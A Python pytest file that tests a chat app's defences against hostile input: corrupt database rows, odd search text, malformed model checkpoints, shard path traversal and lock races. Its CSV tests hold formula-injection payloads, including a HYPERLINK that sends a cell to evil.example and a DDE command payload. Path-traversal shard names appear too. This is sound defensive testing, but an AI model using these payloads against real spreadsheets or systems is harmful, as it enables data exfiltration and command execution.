"""Hostile files and keystrokes (issue 14): the chat database, search, CSV exports, checkpoints, downloads.

Real SQLite files, a real Textual app under Pilot, real safetensors checkpoints from the fixture
builders, real processes holding real file locks.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import sqlite3
import stat
import struct
import subprocess
import sys
from pathlib import Path

import pytest

from fixtures.app_harness import SIZE, make_app, setup_home, wait_model

from dgchat.app.store import MAX_SEARCH_CHARS, SearchError, Store
from dgchat.convert.errors import ConvertError


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# -- the chat database ----------------------------------------------------------------------------------
def test_database_and_journal_files_are_private(tmp_path: Path) -> None:
    db = tmp_path / "data" / "dgchat" / "chats.db"
    old_umask = os.umask(0o022)  # a usual umask: files 0644, folders 0755 unless dgchat says otherwise
    try:
        with Store(db) as store:
            chat = store.create_chat()
            store.add_message(chat.id, "user", "a secret")
            wal, shm = db.with_name("chats.db-wal"), db.with_name("chats.db-shm")
            assert wal.exists() and shm.exists()
            assert (_mode(db), _mode(wal), _mode(shm)) == (0o600, 0o600, 0o600)
        assert _mode(db.parent) == 0o700
        # a database left world-readable by an older dgchat is tightened when opened
        os.chmod(db, 0o644)
        with Store(db) as store:
            store.add_message(chat.id, "user", "another")
        assert _mode(db) == 0o600
    finally:
        os.umask(old_umask)


@pytest.mark.parametrize("text", ["a\x00b", "\ud800 lone", "x" * 50_000, "\x00", '"unbalanced', "NEAR(a b", "*",
                                  "col:value", "\u2028", "a" * MAX_SEARCH_CHARS])
def test_search_takes_any_text(tmp_path: Path, text: str) -> None:
    with Store(tmp_path / "chats.db") as store:
        chat = store.create_chat()
        store.add_message(chat.id, "user", "where is the king\x00b tonight?")
        if len(text) > MAX_SEARCH_CHARS:
            with pytest.raises(SearchError, match=f"search text is too long \\(50,000 characters; at most {MAX_SEARCH_CHARS}\\)"):
                store.search(text)
        else:
            assert isinstance(store.search(text), list)  # never a raw sqlite3 error
        assert any(hit.message_id is not None for hit in store.search("king"))


def test_text_with_lone_surrogates_is_stored(tmp_path: Path) -> None:
    with Store(tmp_path / "chats.db") as store:
        chat = store.create_chat()
        message = store.add_message(chat.id, "user", "pasted \ud83d text")
        assert message.content == "pasted \ufffd text"
        store.rename_chat(chat.id, "title \udcff")
        assert store.get_chat(chat.id).title == "title \ufffd"


def test_one_corrupt_row_does_not_stop_the_store(tmp_path: Path) -> None:
    db = tmp_path / "chats.db"
    with Store(db) as store:
        chat = store.create_chat(params={"steps": 8})
        good = store.add_message(chat.id, "user", "kept")
        bad = store.begin_answer(chat.id)
        store.set_setting("theme", "dark")
    raw = sqlite3.connect(db)
    raw.execute("UPDATE messages SET meta = ? WHERE id = ?", ('{"pid": 12, "stats": {', bad.id))  # cut-off JSON
    raw.execute("UPDATE chats SET params = ? WHERE id = ?", ("[1, 2", chat.id))
    raw.execute("UPDATE settings SET value = ? WHERE key = 'theme'", ("{nope",))
    raw.commit()
    raw.close()
    with Store(db) as store:  # opens, recovers the interrupted answer, reads every row
        messages = store.messages(chat.id)
        assert [m.content for m in messages] == ["kept", ""] and messages[0].id == good.id
        assert messages[1].status == "stopped" and messages[1].meta == {"stop_reason": "interrupted"}
        assert store.get_chat(chat.id).params == {}
        assert store.get_setting("theme", "light") == "light"
        assert store.integrity_ok()


async def test_pasting_a_hostile_query_into_ctrl_f_does_not_crash_the_app(tmp_path: Path, llada_gguf: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    setup_home(tmp_path, monkeypatch)
    app = make_app(llada_gguf)
    async with app.run_test(size=SIZE) as pilot:
        await wait_model(pilot)
        from textual.widgets import Input, Label

        from dgchat.app.search_modal import SearchModal

        await pilot.press("ctrl+f")
        await pilot.pause()
        modal = app.screen
        assert isinstance(modal, SearchModal)
        for text in ("x" * 50_000, "a\x00b", "\ud800", '"NEAR('):
            modal.query_one(Input).value = text
            await pilot.pause()
            assert app.is_running and isinstance(app.screen, SearchModal)
        modal.query_one(Input).value = "y" * 50_000
        await pilot.pause()
        assert "search text is too long" in str(modal.query_one("#search-count", Label).render())


# -- CSV exports --------------------------------------------------------------------------------------
def _doc(text: str, name: str) -> dict:
    return {
        "format": "dgchat-npc-lines", "format_version": 1, "generator": "dgchat 0.1.0",
        "model": {"file": "m.gguf", "name": "m", "architecture": "llada", "size_bytes": 10,
                  "fingerprint": "sha256:" + "0" * 64},
        "lines": [{
            "id": "guard.night.0", "character": "guard", "character_name": name, "context": "-night",
            "text": text, "template": None, "variables": {}, "holes": [], "seed": 0, "attempt": 0,
            "sampler_seed": 0, "variant": 0, "model": "m.gguf", "score": -1.25, "stop_reason": "eos",
            "settings": {"steps": 8, "temperature": 0.8, "algorithm": "confidence", "top_k": 0, "top_p": 1.0},
        }],
    }


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1,1)", "\t=1+1", "'=already quoted", "''+two", "plain line"])
def test_csv_cells_cannot_be_formulas_and_round_trip(text: str) -> None:
    from dgchat.npc.export import export_csv, read_csv_lines

    doc = _doc(text, "=Captain")
    out = export_csv(doc)
    row = next(csv.DictReader(io.StringIO(out, newline="")))
    for col in ("text", "character_name", "context"):
        assert row[col][0] not in "=+-@\t\r", (col, row[col])
    assert row["score"] == "-1.25"  # numbers stay numbers
    back = read_csv_lines(out)[0]
    assert back["text"] == text and back["character_name"] == "=Captain" and back["context"] == "-night"


# -- the converter ------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def checkpoint(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from fixtures.convert_tiny import Spec, make_checkpoint

    return make_checkpoint(tmp_path_factory.mktemp("ckpt") / "llada", Spec("llada"))


def _copy(src: Path, dest: Path) -> Path:
    shutil.copytree(src, dest)
    return dest


def _rewrite_header(folder: Path, edit) -> None:
    path = folder / "model.safetensors"
    raw = path.read_bytes()
    (n,) = struct.unpack("<Q", raw[:8])
    header = json.loads(raw[8:8 + n])
    header = edit(header)
    blob = json.dumps(header).encode()
    path.write_bytes(struct.pack("<Q", len(blob)) + blob + raw[8 + n:])


def _convert(folder: Path, out: Path):
    from dgchat.convert import convert

    return convert(folder, out / "out.gguf")


def _embedding(header: dict) -> str:
    return next(k for k in header if "wte" in k)


@pytest.mark.parametrize("edit, pattern", [
    # 2^62 x 4 x 4 bytes wraps int64 to 0: it once passed as an empty tensor, and the vocabulary
    # size it implied then drove the tokenizer loop
    (lambda h: {**h, _embedding(h): {**h[_embedding(h)], "shape": [2**62, 4], "data_offsets": [0, 0]}},
     "needs 73786976294838206464"),
    (lambda h: {**h, _embedding(h): {**h[_embedding(h)], "shape": [-4, 64]}}, "is not a list of up to 8 sizes >= 0"),
    (lambda h: {**h, _embedding(h): {**h[_embedding(h)], "data_offsets": [-8, 0]}}, "0 <= begin <= end"),
    (lambda h: {**h, _embedding(h): {**h[_embedding(h)], "data_offsets": [16, 8]}}, "0 <= begin <= end"),
    (lambda h: list(h.items()), "its header is a JSON list, not an object"),
    (lambda h: {**h, _embedding(h): "F32"}, "its entry is not an object"),
    (lambda h: {**h, _embedding(h): {**h[_embedding(h)], "shape": [4.5, 2]}}, "sizes >= 0"),
    (lambda h: {**h, "evil\nname": {"dtype": "F64", "shape": [1], "data_offsets": [0, 8]}}, "tensor 'evil\\nname'"),
])
def test_hostile_safetensors_headers(checkpoint: Path, tmp_path: Path, edit, pattern: str) -> None:
    folder = _copy(checkpoint, tmp_path / "ckpt")
    _rewrite_header(folder, edit)
    with pytest.raises(ConvertError) as info:
        _convert(folder, tmp_path)
    assert pattern in str(info.value) and "\n" not in str(info.value)
    assert not (tmp_path / "out.gguf").exists()


def test_shards_must_stay_inside_the_folder(checkpoint: Path, tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"TOPSECRETdata that must never appear in a message")
    outside = _copy(checkpoint, tmp_path / "orig")
    folder = _copy(checkpoint, tmp_path / "ckpt")
    header_names = json.loads((folder / "model.safetensors").read_bytes()[8:8 + struct.unpack(
        "<Q", (folder / "model.safetensors").read_bytes()[:8])[0]])
    names = [k for k in header_names if k != "__metadata__"]
    for shard in ("../secret.txt", str(secret), "../orig/model.safetensors", "sub/../../orig/model.safetensors"):
        (folder / "model.safetensors.index.json").write_text(json.dumps({"weight_map": {n: shard for n in names}}))
        with pytest.raises(ConvertError, match="is outside the checkpoint folder") as info:
            _convert(folder, tmp_path)
        assert "TOPSECRET" not in str(info.value) and str(struct.unpack("<Q", secret.read_bytes()[:8])[0]) not in str(info.value)
    # a symlinked shard that leads out of the folder is refused the same way
    (folder / "model.safetensors.index.json").unlink()
    (folder / "model.safetensors").unlink()
    (folder / "model.safetensors").symlink_to(outside / "model.safetensors")
    with pytest.raises(ConvertError, match="outside the checkpoint folder"):
        _convert(folder, tmp_path)


def test_a_file_that_is_not_safetensors_is_not_quoted(checkpoint: Path, tmp_path: Path) -> None:
    folder = _copy(checkpoint, tmp_path / "ckpt")
    (folder / "model.safetensors").write_bytes(b"root:x:0:0:root:/root:/bin/bash\n" * 4)
    with pytest.raises(ConvertError) as info:
        _convert(folder, tmp_path)
    message = str(info.value)
    assert "not a safetensors file" in message and "root" not in message
    assert str(struct.unpack("<Q", b"root:x:0")[0]) not in message  # the length field is 8 of its bytes


@pytest.mark.parametrize("key, value", [("n_layers", "two"), ("d_model", None), ("n_heads", 0), ("n_layers", 10**9),
                                        ("d_model", 1 << 20), ("rope_theta", -1.0), ("n_heads", [4])])
def test_config_values_of_the_wrong_type_or_size(checkpoint: Path, tmp_path: Path, key: str, value: object) -> None:
    folder = _copy(checkpoint, tmp_path / "ckpt")
    config = json.loads((folder / "config.json").read_text())
    config[key] = value
    (folder / "config.json").write_text(json.dumps(config))
    with pytest.raises(ConvertError) as info:
        _convert(folder, tmp_path)
    assert "config.json" in str(info.value) and "\n" not in str(info.value)


# -- downloads ---------------------------------------------------------------------------------------
_TRY_LOCK = """
import fcntl, os, sys
fd = os.open(sys.argv[1], os.O_RDWR)
try:
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    print("locked")
except BlockingIOError:
    print("busy")
"""


def test_a_lock_file_deleted_by_its_holder_cannot_be_held_twice(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The interleaving that once gave two holders: B opens the lock file, the holder A deletes it
    and unlocks, B locks the deleted file while C can lock a new one. B must notice and lock the file
    the path names now."""
    import fcntl

    from dgchat.hub import util

    path = tmp_path / "m.gguf.lock"
    holder = os.open(path, os.O_RDWR | os.O_CREAT, 0o600)  # A, another downloader
    fcntl.flock(holder, fcntl.LOCK_EX)
    real_lock = util._lock_fd
    calls = []

    def racing_lock(fd: int, blocking: bool) -> bool:
        if not calls:  # B has opened A's file; A finishes now: deletes it while holding it, unlocks
            os.unlink(path)
            fcntl.flock(holder, fcntl.LOCK_UN)
            os.close(holder)
        calls.append(fd)
        return real_lock(fd, blocking)

    monkeypatch.setattr(util, "_lock_fd", racing_lock)
    b = util.FileLock(path)
    assert b.acquire(blocking=False)
    assert len(calls) == 2  # the first lock was on the deleted file: B started over on the new one
    # C, another process, finds the path's file locked
    other = subprocess.run([sys.executable, "-c", _TRY_LOCK, str(path)], capture_output=True, text=True, timeout=60)
    assert other.stdout.strip() == "busy", other.stderr
    b.release(unlink=True)
    assert not path.exists()


def test_catalog_entries_say_whether_they_are_pinned() -> None:
    from dataclasses import replace

    from dgchat.hub.catalog import load_catalog

    catalog = load_catalog()
    downloadable = [e for e in catalog if e.downloadable]
    assert downloadable and not any(e.pinned for e in downloadable)  # nothing is pinned without the hub's word
    entry = downloadable[0]
    assert replace(entry, sha256="ab" * 32, revision="0123456789abcdef0123456789abcdef01234567").pinned
    assert not replace(entry, sha256="ab" * 32).pinned  # a branch can move
